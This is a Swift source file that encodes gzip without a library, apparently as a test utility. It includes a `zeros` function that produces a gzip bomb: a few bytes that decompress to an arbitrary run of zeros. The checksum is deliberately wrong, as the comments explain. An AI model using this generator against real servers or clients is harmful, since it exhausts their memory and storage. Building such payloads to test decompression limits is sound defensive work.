/// Writes gzip without a library: stored blocks, and runs of zeros with 13 bits for each 258 bytes, which make gzip bombs.
enum Gzip {
    /// Returns `bytes` in gzip format, stored without compression.
    static func storing(_ bytes: [UInt8]) -> [UInt8] {
        var blocks: [UInt8] = []
        for start in stride(from: 0, through: bytes.count, by: 65_535) {
            let block = bytes[start..<min(start + 65_535, bytes.count)]
            let isLast = start + 65_535 > bytes.count
            let size = UInt16(block.count)
            blocks += [isLast ? 1 : 0, UInt8(size & 255), UInt8(size >> 8), UInt8(~size & 255), UInt8(~size >> 8)]
            blocks += block
        }
        return header + blocks + little(checksum(of: bytes)) + little(UInt32(bytes.count))
    }

    /// Returns a gzip bomb of at least `count` zeros, with less than 1.5 % of that size.
    ///
    /// Its checksum is wrong, because a client that checks it has already decoded and stored everything.
    static func zeros(_ count: Int) -> [UInt8] {
        var bits = BitWriter()
        bits.write(0b011, count: 3)  // This is the last block, with fixed codes.
        bits.writeCode(0b0011_0000, count: 8)  // One zero byte,
        for _ in 0..<(count / 258 + 1) {
            bits.writeCode(0b1100_0101, count: 8)  // then 258 bytes
            bits.writeCode(0, count: 5)  // from one byte back.
        }
        bits.writeCode(0, count: 7)  // This is the end-of-block code.
        return header + bits.finished() + little(0) + little(UInt32(truncatingIfNeeded: count))
    }

    private static let header: [UInt8] = [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 255]

    private static func little(_ number: UInt32) -> [UInt8] {
        (0..<4).map { UInt8(truncatingIfNeeded: number >> ($0 * 8)) }
    }

    private static func checksum(of bytes: [UInt8]) -> UInt32 {
        ~bytes.reduce(~0 as UInt32) { sum, byte in
            (0..<8).reduce(sum ^ UInt32(byte)) { sum, _ in sum >> 1 ^ (sum & 1 == 1 ? 0xEDB8_8320 : 0) }
        }
    }
}

/// Packs bits into bytes, lowest bit first, as in deflate.
private struct BitWriter {
    private var bytes: [UInt8] = []
    private var pending: UInt32 = 0
    private var count = 0

    mutating func write(_ bits: UInt32, count added: Int) {
        pending |= bits << count
        count += added
        while count >= 8 {
            bytes.append(UInt8(pending & 255))
            pending >>= 8
            count -= 8
        }
    }

    /// Writes a Huffman code, whose bits are in reverse order.
    mutating func writeCode(_ code: UInt32, count added: Int) {
        write((0..<added).reduce(0) { $0 << 1 | (code >> UInt32($1) & 1) }, count: added)
    }

    mutating func finished() -> [UInt8] {
        if count > 0 { write(0, count: 8 - count) }
        return bytes
    }
}
